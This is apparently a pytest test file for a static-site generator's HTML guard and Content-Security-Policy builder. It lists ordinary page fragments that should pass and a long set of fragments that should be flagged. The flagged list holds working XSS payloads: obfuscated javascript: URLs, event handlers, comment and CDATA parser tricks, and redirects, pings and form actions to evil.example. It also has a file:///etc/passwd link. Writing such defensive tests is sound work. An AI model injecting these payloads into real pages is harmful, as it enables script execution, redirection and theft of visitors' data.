"""The last look at a finished page lets through what the theme brings and nothing that runs, loads or sends."""

import base64
import hashlib

import pytest

from afterword.publish import guard

THEME = """<!doctype html><html><head><script>theme()</script><script src="a.js"></script>
<script id="__config" type="application/json">{"base": "."}</script><link rel="stylesheet" href="a.css"></head>
<body><form class="search" name="search"><input></form>{}</body></html>"""

HARMLESS = [
    "<p>text &lt;script&gt;window.__pwned=1&lt;/script&gt;</p>",
    '<a href="https://example.com/a">a link</a> <a href="drafts.html#x">one of ours</a>',
    '<a href="mailto:a@b.example?subject=x&#38;body=12%3A30">mail</a>',
    '<input type="checkbox" id="a/b" data-step="a/b"><label for="a/b">Step: one</label>',
    '<img src="assets/own.svg" alt="our own picture">',
    "<!-- a note of the person who wrote the guide -->",
    "<pre>onclick=window.__pwned=1 javascript:alert(1)</pre>",
]

HARMFUL = [
    "<script>window.__pwned=1</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="module">window.__pwned=1</script>',
    '<script type="application/javascript">window.__pwned=1</script>',
    '<script type="text/ecmascript">window.__pwned=1</script>',
    '<script type="importmap">{"imports": {}}</script>',
    '<script type="application/json" id="__config">{"base": "https://evil.example"}</script>',
    "<img src=x onerror=window.__pwned=1>",
    "<svg/onload=window.__pwned=1>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<base href=https://evil.example/>",
    '<form action="https://evil.example/"><button>Continue</button></form>',
    '<form class="search" name="search" action="/x"></form>',
    '<button formaction="https://evil.example/">Continue</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Refresh" content="0">',
    '<a href="javascript:window.__pwned=1">a</a>',
    '<a href="java\tscript:window.__pwned=1">a</a>',
    '<a href=" &#106;avascript:window.__pwned=1">a</a>',
    '<a href="\x01javascript:window.__pwned=1">a</a>',
    '<a href="vbscript:x">a</a>',
    '<a href="data:text/html,<script>1</script>">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="https://a.example" ping="https://evil.example/">a</a>',
    '<a href="javascript:window.__pwned=1" href="https://a.example">a browser takes the first</a>',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="\\\\evil.example\\pixel.gif">',
    '<img srcset="https://evil.example/pixel.gif 2x">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<body background="https://evil.example/a.gif">',
    "<style>* {display: none}</style>",
    "<style></style x><script>window.__pwned=1</script></style>",
    "<!--><script>window.__pwned=1</script>-->",
    "<!-- x --!><script>window.__pwned=1</script>-->",
    '<!-- -- ><b title="--><script>window.__pwned=1</script>">-->',
    "<![CDATA[><script>window.__pwned=1</script>]]>",
    '<b title="a<script>">x</b>',
]


def page(body: str) -> str:
    """A page of the theme with this in it."""
    return THEME.replace("{}", body)


@pytest.mark.parametrize("body", HARMLESS)
def test_ordinary_pages_pass(body: str) -> None:
    """Text, links, checkboxes and our own pictures are what pages are made of."""
    assert guard.added(guard.content(page(body)), guard.content(page(""))) == set()


@pytest.mark.parametrize("body", HARMFUL)
def test_what_acts_and_is_not_the_themes_is_found(body: str) -> None:
    """Whatever would run, load, redirect or send is named, however it is written."""
    assert guard.added(guard.content(page(body)), guard.content(page("")))


@pytest.mark.parametrize("body", HARMFUL)
def test_what_the_theme_itself_brings_is_not_reported(body: str) -> None:
    """The theme's own scripts and forms are known from a page that no value has touched: the same again is no news."""
    assert guard.added(guard.content(page(body)), guard.content(page(body))) == set()


def test_the_policy_lets_run_the_themes_scripts_and_no_other() -> None:
    """Scripts are allowed by their fingerprint; nothing inline runs besides, and nothing is fetched from elsewhere."""
    text = guard.policy(guard.content(page("")))
    directives = dict(part.strip().partition(" ")[::2] for part in text.split(";"))
    digest = base64.b64encode(hashlib.sha256(b"theme()").digest()).decode()
    assert directives["script-src"] == f"'self' 'sha256-{digest}'"
    assert directives["default-src"] == directives["base-uri"] == directives["form-action"] == "'none'"
    assert directives["object-src"] == "'none'"
    assert "http" not in text
    assert "unsafe-eval" not in text


def test_only_while_somebody_watches_may_the_reload_script_run() -> None:
    """`serve` adds its own script after the last look; a built site never allows that."""
    theme = guard.content(page(""))
    assert "'unsafe-inline'" not in guard.policy(theme).partition("style-src")[0]
    assert "script-src 'self' 'unsafe-inline'" in guard.policy(theme, live_reload=True)


def test_the_policy_stands_before_everything_that_it_governs() -> None:
    """It is the first thing in the head, once."""
    html = guard.with_policy(page(""), "default-src 'none'")
    assert html.count("Content-Security-Policy") == 1
    assert '<head><meta http-equiv="Content-Security-Policy" content="default-src \'none\'"><script>' in html


def test_a_page_that_cannot_have_a_policy_is_an_error() -> None:
    """A theme whose head is written another way must not lose its policy in silence."""
    with pytest.raises(ValueError, match="head"):
        guard.with_policy("<html><HEAD lang=en></HEAD></html>", "default-src 'none'")
